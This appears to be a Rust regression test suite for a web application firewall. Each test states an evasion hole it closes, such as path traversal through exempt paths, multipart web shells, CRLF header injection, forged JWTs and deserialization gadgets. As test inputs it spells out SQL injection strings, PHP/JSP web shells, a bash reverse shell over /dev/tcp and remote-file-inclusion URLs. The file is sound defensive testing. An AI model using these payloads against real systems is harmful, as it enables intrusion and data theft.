//! Regressions for the holes an attacker found in the HTTP layer: dot
//! segments and encoded slashes into exempt paths and exclusions, attacks
//! past `max_body`, web shells in multipart file parts, request-smuggling
//! framing, duplicated JSON keys. Each test states the hole it closes. No
//! root needed.

use waf_user::detect::{Action, DetectConfig, Engine, Exclusion, Kind, Severity, Verdict};
use waf_user::http::{BodyMeter, CanonicalPath, Limits, Request, counted_len};

const UA: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0";
const SQLI: &str = "id=1%27%20union%20select%20password%20from%20users--";

fn headers(extra: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut h = vec![
        ("Host".to_owned(), "app.example".to_owned()),
        ("User-Agent".to_owned(), UA.to_owned()),
        ("Accept".to_owned(), "*/*".to_owned()),
    ];
    h.extend(
        extra
            .iter()
            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned())),
    );
    h
}

fn get(e: &Engine, target: &str) -> Verdict {
    let req =
        Request::from_parts("GET", target, headers(&[]), Vec::new(), e.limits()).expect("request");
    e.inspect(&req, None)
}

fn exempting_engine() -> Engine {
    Engine::new(&DetectConfig {
        exempt_paths: vec![
            ("/health".into(), true),
            ("/favicon.ico".into(), true),
            ("/static/*".into(), true),
        ],
        ..Default::default()
    })
    .expect("engine")
}

fn rules(v: &Verdict) -> Vec<&str> {
    v.attacks.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn dot_segments_into_an_exempt_glob_are_not_exempt() {
    let e = exempting_engine();
    // The exemption itself still works.
    assert_eq!(
        get(&e, &format!("/static/app.js?{SQLI}")).action,
        Action::Pass
    );
    for path in [
        "/static/../login",
        "/static/%2e%2e/login",
        "/static/.%2e/login",
        "/static/%2E%2e/login",
        "/static/%2e./login",
        "/static/..%2flogin",
        "/static%2f..%2flogin",
        "/static/..%5clogin",
        "/static/..%5Clogin",
        "/static\\..\\login",
        "/static/..;/login",
        "/static;x=1/../login",
        "/static/%252e%252e/login",
        "/static/%252e%252e%252flogin",
        "/static/./../login",
        "/static//../../login",
        "/static/../../../login",
        "/static/%c0%ae%c0%ae/login",
        "/static/%u002e%u002e/login",
        "/static/x.css%00/../../login",
        "http://app.example/static/../login",
    ] {
        let target = format!("{path}?{SQLI}");
        let req = Request::from_parts("GET", &target, headers(&[]), Vec::new(), e.limits())
            .expect("request");
        assert!(!e.exempt(&req), "{path} must not be exempt");
        assert!(
            !e.exempt_path(&CanonicalPath::from_target(&target)),
            "{path}"
        );
        let v = e.inspect(&req, None);
        assert_eq!(v.action, Action::Block, "{path}: {v:?}");
    }
    assert_eq!(
        CanonicalPath::from_target("/static/../login").path,
        "/login"
    );
}

#[test]
fn suffix_exemptions_do_not_cover_scripts() {
    let e = Engine::new(&DetectConfig {
        exempt_paths: vec![("*.css".into(), true), ("/static/*".into(), true)],
        ..Default::default()
    })
    .expect("engine");
    assert_eq!(
        get(&e, &format!("/site/main.css?{SQLI}")).action,
        Action::Pass
    );
    for path in [
        "/login.php/x.css",
        "/login.PHP/x.css",
        "/login.php%00.css",
        "/login.php;.css",
        "/login.php%3b.css",
        "/login.php/.css",
        "/static/.. /login",
        "/static/.../login",
        "/static/x/login.aspx./y.css",
    ] {
        let v = get(&e, &format!("{path}?{SQLI}"));
        assert_eq!(v.action, Action::Block, "{path}: {v:?}");
    }
}

#[test]
fn an_encoded_slash_voids_exclusions_and_is_a_finding() {
    let cfg = DetectConfig {
        exclusions: vec![Exclusion {
            path: Some("/cms/*".into()),
            kind: Some(Kind::Sqli),
            ..Default::default()
        }],
        ..Default::default()
    };
    let e = Engine::new(&cfg).expect("engine");
    let v = get(&e, &format!("/cms/page?{SQLI}"));
    assert!(!v.attacks.iter().any(|f| f.kind == Kind::Sqli), "{v:?}");
    for path in [
        "/cms%2fpage",
        "/cms%2Fpage",
        "/cms/..%2fcms/page",
        "/cms%252fpage",
    ] {
        let v = get(&e, &format!("{path}?{SQLI}"));
        assert_eq!(v.action, Action::Block, "{path}: {v:?}");
        assert!(v.attacks.iter().any(|f| f.kind == Kind::Sqli), "{path}");
        assert!(rules(&v).contains(&"protocol-path-encoded-slash"), "{path}");
    }
    let v = get(&e, &format!("/../cms/page?{SQLI}"));
    assert!(rules(&v).contains(&"protocol-path-above-root"), "{v:?}");
    assert!(v.attacks.iter().any(|f| f.kind == Kind::Sqli));
}

#[test]
fn path_evasions_climb_the_ladder() {
    let at = |paranoia| {
        Engine::new(&DetectConfig {
            paranoia,
            ..Default::default()
        })
        .expect("engine")
    };
    let (pl1, pl2, pl3) = (at(1), at(2), at(3));
    // An encoded slash adds to other findings below paranoia 3 and blocks
    // alone from it (storage and package APIs name objects with `%2F`).
    let v = get(&pl1, "/api/repos/a%2Fb");
    assert_eq!(v.action, Action::Pass, "{v:?}");
    assert_eq!(rules(&v), ["protocol-path-encoded-slash"]);
    let f = &v.attacks[0];
    assert_eq!(
        (f.matched.as_str(), f.value.as_str()),
        ("/api/repos/a/b", "/api/repos/a%2Fb")
    );
    assert_eq!(v.score, 4, "{v:?}");
    assert_eq!(get(&pl2, "/api/repos/a%2Fb").action, Action::Pass);
    assert_eq!(get(&pl3, "/api/repos/a%2Fb").action, Action::Block);
    assert_eq!(get(&pl3, "/api/repos/a/b").action, Action::Pass);
    // A climb above the root is critical from paranoia 2.
    let severity = |e: &Engine| {
        let v = get(e, "/../api/repos");
        v.attacks
            .iter()
            .find(|f| f.rule == "protocol-path-above-root")
            .map(|f| f.severity)
    };
    assert_eq!(severity(&pl1), Some(Severity::Error));
    assert_eq!(severity(&pl2), Some(Severity::Critical));
}

/// A text body without a Content-Type blocks alone from paranoia 2; a
/// binary one (a browser's Blob beacon) only adds to other findings, at
/// every level.
#[test]
fn untyped_bodies_climb_the_ladder() {
    let post = |paranoia, body: &[u8]| {
        let e = Engine::new(&DetectConfig {
            paranoia,
            ..Default::default()
        })
        .expect("engine");
        let len = body.len().to_string();
        let req = Request::from_parts(
            "POST",
            "/collect",
            headers(&[("Content-Length", &len)]),
            body.to_vec(),
            e.limits(),
        )
        .expect("request");
        e.inspect(&req, None)
    };
    let text = b"pay=4oR2-";
    let v = post(1, text);
    assert_eq!(
        (v.action, rules(&v)),
        (Action::Pass, vec!["protocol-missing-content-type"])
    );
    assert_eq!(post(2, text).action, Action::Block);
    let binary = b"6\x86\xf0D\r\n`n\x10v\x02\xe0\x15\x02x\x01\xc2`\x17\x18\x06\xa0I";
    for paranoia in 1..=4 {
        let v = post(paranoia, binary);
        assert_eq!(v.action, Action::Pass, "PL{paranoia}: {v:?}");
        assert_eq!(rules(&v), ["protocol-untyped-binary-body"], "PL{paranoia}");
    }
}

/// An engine at paranoia 2, built once for the property tests.
static PL2: std::sync::LazyLock<Engine> = std::sync::LazyLock::new(|| {
    Engine::new(&DetectConfig {
        paranoia: 2,
        ..Default::default()
    })
    .expect("engine")
});

/// Percent-encodes every byte.
fn encode_all(b: &[u8]) -> String {
    b.iter().map(|c| format!("%{c:02X}")).collect()
}

#[test]
fn bytes_that_are_no_utf8_block_from_paranoia_2() {
    let pl1 = Engine::new(&DetectConfig::default()).expect("engine");
    for target in ["/?p=%c0", "/?p=test1%80", "/?p=%E2%A3", "/i%FFndex.html"] {
        let v = get(&pl1, target);
        assert_eq!(
            (v.action, rules(&v)),
            (Action::Pass, vec!["protocol-invalid-utf8"]),
            "{target}"
        );
        assert_eq!(get(&PL2, target).action, Action::Block, "{target}");
    }
}

proptest::proptest! {
    /// Any text, every byte percent-encoded, is UTF-8 to the check; the
    /// same text with one stray continuation byte or a cut sequence is not.
    #[test]
    fn the_utf8_check_reads_decoded_bytes(text in "[a-z\u{e9}\u{4e2d}\u{1f600} ]{0,12}", at in 0usize..40, cut in proptest::bool::ANY) {
        let rules_of = |q: &str| -> Vec<String> {
            get(&PL2, &format!("/s?q={q}")).attacks.into_iter().map(|f| f.rule).collect()
        };
        let b = text.as_bytes();
        proptest::prop_assert!(!rules_of(&encode_all(b)).iter().any(|r| r == "protocol-invalid-utf8"));
        let mut bad = b.to_vec();
        let at = at.min(bad.len());
        if cut {
            // The first two bytes of a three-byte sequence.
            bad.splice(at..at, [0xE4, 0xB8]);
            bad.truncate(at + 2);
        } else {
            bad.insert(at, 0x80);
        }
        proptest::prop_assert!(rules_of(&encode_all(&bad)).iter().any(|r| r == "protocol-invalid-utf8"), "{:?}", bad);
    }
}

#[test]
fn an_attack_past_max_body_is_flagged_partial() {
    let limits = Limits {
        max_body: 4096,
        ..Limits::default()
    };
    let e = Engine::new(&DetectConfig {
        limits: limits.clone(),
        ..Default::default()
    })
    .expect("engine");
    let mut body = format!("pad={}", "a".repeat(5000)).into_bytes();
    body.extend_from_slice(b"&q=1' union select password from users--");
    let ct = [("Content-Type", "application/x-www-form-urlencoded")];
    // The proxy gave the whole body.
    let req = Request::from_parts("POST", "/login", headers(&ct), body.clone(), &limits)
        .expect("request");
    assert_eq!(req.body_len, body.len());
    assert!(req.body_truncated);
    let v = e.inspect(&req, None);
    assert!(v.partial, "{v:?}");
    assert!(rules(&v).contains(&"protocol-body-truncated"), "{v:?}");
    // The proxy stopped at the limit: the declared length is the real one.
    let cl = body.len().to_string();
    let ct_cl = [
        ("Content-Type", "application/x-www-form-urlencoded"),
        ("Content-Length", cl.as_str()),
    ];
    let req = Request::from_parts_partial(
        "POST",
        "/login",
        headers(&ct_cl),
        body[..4096].to_vec(),
        &limits,
    )
    .expect("request");
    assert_eq!(req.body_len, body.len());
    assert!(e.inspect(&req, None).partial);
    // A caller that passes the prefix as if it were whole (the proxy before
    // it knew `from_parts_partial`) is caught by the Content-Length.
    let req = Request::from_parts(
        "POST",
        "/login",
        headers(&ct_cl),
        body[..4096].to_vec(),
        &limits,
    )
    .expect("request");
    assert_eq!(req.body_len, body.len());
    assert!(e.inspect(&req, None).partial);
    // From raw bytes too.
    let mut raw = format!(
        "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    raw.extend_from_slice(&body);
    let req = Request::parse(&raw, &limits).expect("request");
    assert_eq!((req.body.len(), req.body_len), (4096, body.len()));
    assert!(e.inspect(&req, None).partial);
    // The meter tells the proxy the body is over the limit.
    let mut meter = BodyMeter::new(Some("application/x-www-form-urlencoded"), &limits);
    assert!(meter.over_limit(&body));
    // Within the limit: not partial.
    let req = Request::from_parts("POST", "/login", headers(&ct), b"a=1".to_vec(), &limits)
        .expect("request");
    assert!(!e.inspect(&req, None).partial);
}

fn multipart(filename: &str, content: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{filename}\"\r\nContent-Type: image/jpeg\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(
        b"\r\n--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--XyZ--\r\n",
    );
    body
}

fn upload(e: &Engine, filename: &str, content: &[u8]) -> Verdict {
    let ct = [("Content-Type", "multipart/form-data; boundary=XyZ")];
    let req = Request::from_parts(
        "POST",
        "/upload",
        headers(&ct),
        multipart(filename, content),
        e.limits(),
    )
    .expect("request");
    e.inspect(&req, None)
}

#[test]
fn a_web_shell_in_a_file_part_is_found() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00";
    assert_eq!(upload(&e, "holiday.jpg", jpeg).action, Action::Pass);
    for (name, content) in [
        ("x.php", &b"<?php system($_GET['c']); ?>"[..]),
        ("avatar.jpg", b"GIF89a<?php eval($_POST['x']); ?>"),
        ("avatar.jpg", b"GIF89a<?= `$_GET[c]` ?>"),
        ("avatar.jpg", b"<% eval request(\"x\") %>"),
        ("avatar.jpg", b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        ("avatar.jpg", b"<script runat=\"server\" language=\"c#\">Response.Write(1)</script>"),
        ("avatar.jpg", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"),
    ] {
        let v = upload(&e, name, content);
        assert_eq!(v.action, Action::Block, "{name}: {v:?}");
        assert!(
            v.attacks.iter().any(|f| f.location.starts_with("file:")),
            "{name}: the file content must be a finding: {v:?}"
        );
    }
    // A shell appended after a large image is read in the file's tail; the
    // file does not count against max_body.
    let mut big = vec![0xffu8; 300 * 1024];
    big.extend_from_slice(b"<?php system($_GET['c']); ?>");
    let v = upload(&e, "avatar.jpg", &big);
    assert_eq!(v.action, Action::Block, "{v:?}");
    assert!(
        v.attacks.iter().any(|f| f.location == "file:upload(tail)"),
        "{v:?}"
    );
    let limits = Limits {
        max_body: 1024,
        ..Limits::default()
    };
    let body = multipart("avatar.jpg", &big);
    let counted = counted_len(Some("multipart/form-data; boundary=XyZ"), &body, &limits);
    assert!(counted < 1024, "{counted}");
}

/// Hole: a JSON body parsed into a map kept one value of a duplicated key
/// (the last), so `{"q": "<payload>", "q": "x"}` passed while back ends
/// that read the first key got the payload. Every duplicate is read.
#[test]
fn every_value_of_a_duplicated_json_key_is_read() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let ct = [("Content-Type", "application/json")];
    for body in [
        r#"{"q":"1' union select password from users--","q":"x"}"#,
        r#"{"q":"x","q":"1' union select password from users--"}"#,
        r#"{"a":{"q":"<script>alert(1)</script>","q":"x"}}"#,
    ] {
        let req = Request::from_parts(
            "POST",
            "/api/search",
            headers(&ct),
            body.as_bytes().to_vec(),
            e.limits(),
        )
        .expect("request");
        let v = e.inspect(&req, None);
        assert_eq!(v.action, Action::Block, "{body}: {v:?}");
    }
}

/// Hole: U+560A and U+560D (which servers that keep a code point's low
/// byte read as LF and CR) were folded to line breaks only when sent raw:
/// written as character references or JSON escapes they passed, and the
/// injected header with them.
#[test]
fn line_breaks_hidden_in_references_and_escapes_are_read() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    for target in [
        "/r?to=/page%E5%98%8D%E5%98%8ASet-Cookie:%20x=1",
        "/r?to=/page%26%2322029;%26%2322026;Set-Cookie:%20x=1",
        "/r?to=%26%23x2f;page%26%2322029;%26%2322026;Set%26%2345;Cookie%26colon;%20x%26%230000061;1",
        "/r?to=/page%5Cu560d%5Cu560aSet-Cookie:%20x=1",
    ] {
        let v = get(&e, target);
        assert_eq!(v.action, Action::Block, "{target}: {:?}", rules(&v));
        assert!(
            rules(&v).contains(&"crlf-header-injection"),
            "{target}: {:?}",
            rules(&v)
        );
    }
    // The same characters in prose are CJK text, not a header.
    let v = get(&e, "/s?q=%26%2322026;%26%2322029;%20x");
    assert_eq!(v.action, Action::Pass, "{:?}", rules(&v));
}

/// Holes: a serialized Java object as a path segment
/// (`/api/items/rO0ABXNy...`), and a numeric tautology in a custom header
/// (`X-Request-Data: 1) OR 1=1#`, a header the application logs or
/// queries by), met no rule.
#[test]
fn serialized_objects_in_the_path_and_tautologies_in_headers_block() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let v = get(
        &e,
        "/api/items/rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg%3D%3D/details",
    );
    assert_eq!(v.action, Action::Block, "{:?}", rules(&v));
    assert!(rules(&v).contains(&"java-serialized"), "{:?}", rules(&v));
    for value in ["1) OR 1=1#", "1' or 2>1 -- x"] {
        let h = headers(&[("X-Request-Data", value)]);
        let req =
            Request::from_parts("GET", "/account", h, Vec::new(), e.limits()).expect("request");
        let v = e.inspect(&req, None);
        assert_eq!(v.action, Action::Block, "{value}: {:?}", rules(&v));
    }
    // A header that names a range or a version is no tautology.
    let h = headers(&[("X-Request-Data", "page 1 or 2 of 10")]);
    let req = Request::from_parts("GET", "/account", h, Vec::new(), e.limits()).expect("request");
    assert_eq!(e.inspect(&req, None).action, Action::Pass);
}

/// Hole: a header of the application's own (`X-Request-Data`) was read
/// with the few rules of the protocol's headers unless it held code
/// punctuation, so `" or "a"="a`, ` OR 1=1` and `;id;` blocked in a
/// parameter and passed there. Such a header is now read as a parameter:
/// the same verdict in both places, attack or not. A Referer's query is
/// read when it holds a command separator or a comment too.
#[test]
fn an_application_header_is_read_as_a_parameter() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let in_header = |name: &str, value: &str| {
        let h = headers(&[(name, value)]);
        let req =
            Request::from_parts("GET", "/account", h, Vec::new(), e.limits()).expect("request");
        e.inspect(&req, None)
    };
    let enc = |v: &str| v.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
    for (value, attack) in [
        ("\" or \"a\"=\"a", true),
        (" OR 1=1", true),
        (";id;", true),
        ("a);env;", true),
        ("admin\" or 1=1#", true),
        ("abc123DEF456", false),
        (
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            false,
        ),
        ("a=1;b=2;exp=on", false),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig", false),
        ("order by date", false),
    ] {
        let q = get(&e, &format!("/account?v={}", enc(value)));
        let h = in_header("X-Request-Data", value);
        assert_eq!(
            q.action,
            h.action,
            "{value}: {:?} / {:?}",
            rules(&q),
            rules(&h)
        );
        let want = if attack { Action::Block } else { Action::Pass };
        assert_eq!(h.action, want, "{value}: {:?}", rules(&h));
    }
    // The headers of the protocol keep their grammar: a client hint with
    // quotes and `;` is no SQL.
    let v = in_header(
        "Sec-CH-UA",
        "\"Not A(Brand\";v=\"99\", \"Chromium\";v=\"120\"",
    );
    assert_eq!(v.action, Action::Pass, "{:?}", rules(&v));
    // A Referer's query with a comment or a separator is read.
    for q in ["%20OR%20x=x--%20", "%26%20id%20%26"] {
        let v = in_header("Referer", &format!("https://app.example/search?q={q}"));
        assert_eq!(v.action, Action::Block, "{q}: {:?}", rules(&v));
    }
    let v = in_header(
        "Referer",
        "https://app.example/search?q=tom%20%26%20jerry%20--%20c%23",
    );
    assert_eq!(v.action, Action::Pass, "{:?}", rules(&v));
}

/// Hole: a JSON Web Token with `"alg": "none"` (a server that honours it
/// takes the token unsigned) passed in a bearer header, a cookie and a
/// parameter, and its header's key id (read by some servers as a file or
/// a row) was never read. A signed token with an opaque key id passes.
#[test]
fn forged_json_web_tokens_block() {
    use base64::Engine as _;
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    let token = |header: &str| format!("{}.{}.", b64(header), b64(r#"{"sub":"admin"}"#));
    let inspect = |extra: &[(&str, &str)], target: &str| {
        let req = Request::from_parts("GET", target, headers(extra), Vec::new(), e.limits())
            .expect("request");
        e.inspect(&req, None)
    };
    let none = token(r#"{"alg":"None","typ":"JWT"}"#);
    for (extra, target) in [
        (
            vec![("Authorization", format!("Bearer {none}"))],
            "/api/me".to_owned(),
        ),
        (
            vec![("Cookie", format!("session={none}"))],
            "/api/me".to_owned(),
        ),
        (vec![], format!("/api/me?token={none}")),
    ] {
        let extra: Vec<(&str, &str)> = extra.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let v = inspect(&extra, &target);
        assert_eq!(
            v.action,
            Action::Block,
            "{target} {extra:?}: {:?}",
            rules(&v)
        );
        assert!(rules(&v).contains(&"jwt-alg-none"), "{:?}", rules(&v));
    }
    for kid in ["../../../../dev/null", "x' union select 'key'--", "k;id;"] {
        let t = token(&format!(
            r#"{{"alg":"HS256","kid":{}}}"#,
            serde_json::json!(kid)
        ));
        let v = inspect(&[("Authorization", &format!("Bearer {t}sig"))], "/api/me");
        assert_eq!(v.action, Action::Block, "{kid}: {:?}", rules(&v));
    }
    let signed = token(r#"{"alg":"RS256","kid":"2024-06-key-a","typ":"JWT"}"#) + "c2lnbmF0dXJl";
    let v = inspect(&[("Authorization", &format!("Bearer {signed}"))], "/api/me");
    assert_eq!(v.action, Action::Pass, "{:?}", rules(&v));
}

/// Hole: a remote file with a trailing `?` (which cuts off the suffix the
/// application appends) blocked in a parameter but not in a JSON string.
/// In JSON it takes a script or text file: beacons carry page URLs with
/// an empty query.
#[test]
fn a_remote_file_with_a_trailing_question_mark_blocks_in_json() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let post = |body: &str| {
        let ct = [("Content-Type", "application/json")];
        let req = Request::from_parts("POST", "/api/page", headers(&ct), body.into(), e.limits())
            .expect("request");
        e.inspect(&req, None)
    };
    for body in [
        r#"{"page":"http://evil.example/inc.txt??"}"#,
        r#"{"a":["https://198.51.100.3/x.php?"]}"#,
    ] {
        let v = post(body);
        assert_eq!(v.action, Action::Block, "{body}: {:?}", rules(&v));
    }
    for body in [
        r#"{"url":"https://shop.example/?"}"#,
        r#"{"name":"https://cdn.example/a/b.webp?"}"#,
    ] {
        let v = post(body);
        assert_eq!(v.action, Action::Pass, "{body}: {:?}", rules(&v));
    }
}

/// Serialized objects of .NET (BinaryFormatter's header, the full name of
/// a ysoserial.net gadget type as JSON.NET's `$type`) and Python (a pickle
/// importing `os.system`) block in a parameter and a JSON body; prototype
/// pollution nested as JSON keys (`constructor` then `prototype`) blocks
/// as `__proto__` does; sibling keys and prose pass.
#[test]
fn serialized_gadgets_and_nested_prototype_keys_block() {
    let e = Engine::new(&DetectConfig::default()).expect("engine");
    let post = |body: &str| {
        let mut h = headers(&[]);
        h.push(("Content-Type".to_owned(), "application/json".to_owned()));
        let req = Request::from_parts(
            "POST",
            "/api/items",
            h,
            body.as_bytes().to_vec(),
            e.limits(),
        )
        .expect("request");
        e.inspect(&req, None)
    };
    for target in [
        "/a?state=AAEAAAD/////AQAAAAAAAAAMAgAAAE",
        "/a?s=cos%0Asystem%0A(S'id'%0AtR.",
        "/a?s=cposix%0Asystem%0Ap0%0A(S'id'%0Ap1%0AtRp2%0A.",
    ] {
        let v = get(&e, target);
        assert_eq!(v.action, Action::Block, "{target}: {:?}", rules(&v));
        assert!(rules(&v).contains(&"serialized-object-gadget"), "{target}");
    }
    for body in [
        r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
        r#"{"user":{"constructor":{"prototype":{"isAdmin":true}}}}"#,
    ] {
        let v = post(body);
        assert_eq!(v.action, Action::Block, "{body}: {:?}", rules(&v));
    }
    for body in [
        r#"{"constructor":"Foo","prototype":"Bar"}"#,
        r#"{"note":"the prototype of a constructor; System.Windows.Forms"}"#,
        r#"{"pickle":"cos(x) and system(s)"}"#,
    ] {
        let v = post(body);
        assert_eq!(v.action, Action::Pass, "{body}: {:?}", rules(&v));
    }
}
